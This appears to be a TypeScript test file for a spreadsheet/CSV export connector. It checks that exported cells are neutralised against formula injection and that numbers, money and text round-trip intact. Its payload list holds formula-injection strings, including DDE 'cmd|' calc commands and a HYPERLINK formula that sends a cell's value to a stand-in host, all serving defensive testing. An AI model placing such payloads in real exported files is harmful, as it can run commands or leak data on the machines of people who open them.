// No cell that goes out is taken for a formula, numbers stay numbers, and reading gives every text back as it was.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { neutral } from '#base/formula.ts';
import { textOf } from '#connectors/sheet/cell.ts';
import { readMoney } from '#connectors/sheet/cell-money.ts';
import { numberStyleOf, readNumber } from '#connectors/sheet/cell-number.ts';
import { cellText, money, number, numberText, text } from './cells.ts';
import { csvHead, csvRows, planOf } from './write.ts';

/** What Excel, LibreOffice and Google Sheets begin a formula with. */
const runs = /^[=+\-@\t\r\n＝＋－＠]/;
const number5 = /^[-+]?\d[\d.,]*$/;
const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', "'", "'=", "''-", ' ', ''];
const payloads = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.example?"&A1,"clique")',
  'SUM(A1:A9)*cmd|"/c"!A0',
  '5',
  '-5',
  '2,5',
  'Ação; "entre aspas"',
  'IMPORTXML("//a")',
  '55 11 99999-0000',
];

/** A text as a reader of plain cells keeps it: an apostrophe of its own stays. */
const plainText = (value: string): string => textOf(`x${value}`).slice(1).trim();

test('2,000 texts that look for a spreadsheet to run them: none does, all come back', () => {
  let tried = 0;
  for (const first of starts)
    for (const second of starts)
      for (const payload of payloads) {
        tried += 1;
        const value = `${first}${second}${payload}`;
        const out = neutral(value);
        assert.ok(!runs.test(out) || number5.test(out), JSON.stringify(out));
        assert.equal(textOf(out), plainText(value), JSON.stringify(value));
      }
  assert.ok(tried >= 2000, String(tried));
});

test('numbers are written as numbers, negative ones too, and read back to the last digit', () => {
  assert.equal(numberText(-5, 'br'), '-5');
  assert.equal(numberText(1.234, 'br'), '1,2340');
  assert.equal(numberText(1e-7, 'iso'), '0.0000001');
  assert.equal(cellText(money(-123456, null), 'br'), '-1234,56');
  assert.equal(cellText(money(50, 'USD'), 'iso'), 'USD 0.50');
  fc.assert(
    fc.property(fc.integer({ min: -1e9, max: 1e9 }), fc.integer({ min: 0, max: 6 }), (whole, digits) => {
      const value = whole / 10 ** digits;
      for (const style of ['br', 'iso'] as const) {
        const cell = cellText(number(value), style);
        const read = readNumber(cell, numberStyleOf([cell]));
        assert.deepEqual(read, { kind: 'value', value: Object.is(value, -0) ? 0 : value }, cell);
      }
    }),
  );
  fc.assert(
    fc.property(fc.integer({ min: 0, max: 1e12 }), (cents) => {
      for (const style of ['br', 'iso'] as const) {
        const cell = cellText(money(cents, null), style);
        const read = readMoney(cell, numberStyleOf([cell]));
        assert.equal(read.kind === 'value' && read.value.cents, cents, cell);
      }
    }),
  );
});

test('an equals sign with a stroke over it is a letter, whatever form it comes in', () => {
  assert.equal(cellText(text('=\u0338 x'), 'br'), '\u2260 x');
  assert.equal(textOf(cellText(text('=\u0338 x'), 'br')), plainText('=\u0338 x'));
});

test('a row keeps its cells whatever stands in them', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 3, maxLength: 3 }), (values) => {
      const keys = ['name', 'subject', 'ticketId'];
      const plan = planOf('tickets', new Map(keys.map((key) => [key, false])));
      const row = new Map(plan.keys.map((key, i) => [key, text(values[i] ?? '')]));
      for (const style of ['br', 'iso'] as const) {
        const csv = csvHead(plan, style) + csvRows(plan, [row], style);
        const delimiter = style === 'br' ? ';' : ',';
        const [, read] = parse(csv, { delimiter, bom: true, relax_column_count: true }) as string[][];
        assert.deepEqual(
          (read ?? []).map((cell) => textOf(cell)),
          values.map((value) => plainText(value)),
        );
      }
    }),
  );
});
